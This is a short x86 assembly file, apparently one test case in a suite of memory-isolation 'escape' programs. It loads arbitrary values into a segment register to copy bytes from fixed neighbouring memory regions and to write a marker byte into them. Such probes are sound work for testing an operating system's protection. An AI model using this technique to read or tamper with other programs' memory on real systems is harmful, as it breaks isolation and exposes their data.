/*
 * escape-segment: loads the segments of its neighbours.
 *
 * Any number may be loaded into a segment register. This is all that it takes.
 */
#include "escape.inc"

what_we_do:
        .asciz  "Loads the segments of its neighbours.\n"

targets:
        .long   0x10000, 0x20000, 0x30000, 0x40000, 0

prepare:
        ret

read_target:
        mov     eax, edx
        shr     eax, 4                  /* the segment that begins at this address */
        mov     ds, ax
        mov     si, 0
        mov     di, offset loot
        mov     cx, BYTES
        rep movsb                       /* copy from DS:SI to ES:DI, CX times */
        ret

write_target:
        mov     eax, edx
        shr     eax, 4
        mov     ds, ax
        mov     byte ptr [SPOT], '!'
        ret
